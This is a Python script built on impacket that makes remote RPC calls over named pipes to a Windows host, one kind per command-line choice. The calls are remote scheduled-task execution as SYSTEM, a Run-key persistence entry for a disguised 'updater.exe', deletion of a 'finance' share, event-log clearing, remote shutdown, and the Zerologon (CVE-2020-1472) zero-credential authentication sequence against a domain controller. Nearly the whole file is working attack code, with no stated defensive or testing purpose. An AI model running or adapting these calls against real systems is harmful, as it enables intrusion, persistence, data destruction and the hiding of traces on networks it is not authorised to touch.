#!/usr/bin/python3
"""Calls of one kind over named pipes, encoded by impacket.

    calls.py KIND ADDRESS USER PASSWORD
"""
import sys

from impacket.dcerpc.v5 import rrp, srvs, transport, tsch
from impacket.uuid import uuidtup_to_bin

TASK = """<?xml version="1.0" encoding="UTF-16"?>
<Task version="1.2" xmlns="http://schemas.microsoft.com/windows/2004/02/mit/task"><Triggers><CalendarTrigger>
<StartBoundary>2015-07-15T20:35:13.2757294</StartBoundary></CalendarTrigger></Triggers><Actions Context="LocalSystem"><Exec>
<Command>cmd.exe</Command><Arguments>/C whoami &gt; %windir%\\Temp\\aBcDeFgH.tmp 2&gt;&amp;1</Arguments></Exec></Actions></Task>
"""


def connect(pipe, interface):
    _, address, user, password = sys.argv[1:]
    rpc = transport.DCERPCTransportFactory(f"ncacn_np:{address}[\\pipe\\{pipe}]")
    rpc.set_credentials(user, password)
    dce = rpc.get_dce_rpc()
    dce.connect()
    dce.bind(interface)
    return dce


def bare(pipe, uuid, version, opnum, stub=b"\0" * 32):
    """A call whose arguments do not matter."""
    dce = connect(pipe, uuidtup_to_bin((uuid, version)))
    dce.call(opnum, stub)
    dce.recv()
    dce.disconnect()


def task():
    dce = connect("atsvc", tsch.MSRPC_UUID_TSCHS)
    try:
        tsch.hSchRpcRegisterTask(dce, "\\aBcDeFgH", TASK, tsch.TASK_CREATE, tsch.NULL, tsch.TASK_LOGON_NONE)
        tsch.hSchRpcRun(dce, "\\aBcDeFgH")
    finally:
        dce.disconnect()


def registry():
    dce = connect("winreg", rrp.MSRPC_UUID_RRP)
    hive = rrp.hOpenLocalMachine(dce)["phKey"]
    key = rrp.hBaseRegOpenKey(dce, hive, "SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run\0")["phkResult"]
    rrp.hBaseRegSetValue(dce, key, "Updater\0", rrp.REG_SZ, "C:\\Windows\\Temp\\updater.exe\0")
    dce.disconnect()


def share():
    dce = connect("srvsvc", srvs.MSRPC_UUID_SRVS)
    try:
        srvs.hNetrShareDel(dce, "finance\0")
    finally:
        dce.disconnect()


# A spooler's library, a cleared log, a shutdown, an object over DCOM.
MONITOR = ("spoolss", "12345678-1234-abcd-ef00-0123456789ab", "1.0", 46)
CLEAR = ("eventlog", "82273fdc-e32a-18c3-3f78-827929dc23ea", "0.0", 0)
SHUTDOWN = ("InitShutdown", "894de0c0-0d55-11d3-a322-00c04fa321a1", "1.0", 0)
OBJECT = ("epmapper", "000001a0-0000-0000-c000-000000000046", "0.0", 4)


def zerologon():
    """The octets that CVE-2020-1472's first exploits sent: names, a challenge and a credential of zeros."""
    dce = connect("netlogon", uuidtup_to_bin(("12345678-1234-abcd-ef00-01234567cffb", "1.0")))

    def text(value):
        octets = (value + "\0").encode("utf-16-le")
        count = len(value) + 1
        return count.to_bytes(4, "little") + b"\0" * 4 + count.to_bytes(4, "little") + octets

    primary = b"\1\0\2\0" + text("\\\\FILESRV")  # 20 octets; the others come out aligned too
    dce.call(4, primary + text("FILESRV") + b"\0" * 8)
    dce.recv()
    dce.call(26, primary + text("FILESRV$") + b"\6\0" + text("FILESRV") + b"\0" * 8 + b"\xff\xff\x2f\x21")
    dce.recv()
    dce.disconnect()


KINDS = {"task": task, "registry": registry, "share": share, "zerologon": zerologon, "monitor": lambda: bare(*MONITOR),
         "clear": lambda: bare(*CLEAR), "shutdown": lambda: bare(*SHUTDOWN), "object": lambda: bare(*OBJECT)}

if __name__ == "__main__":
    KINDS[sys.argv[1]]()
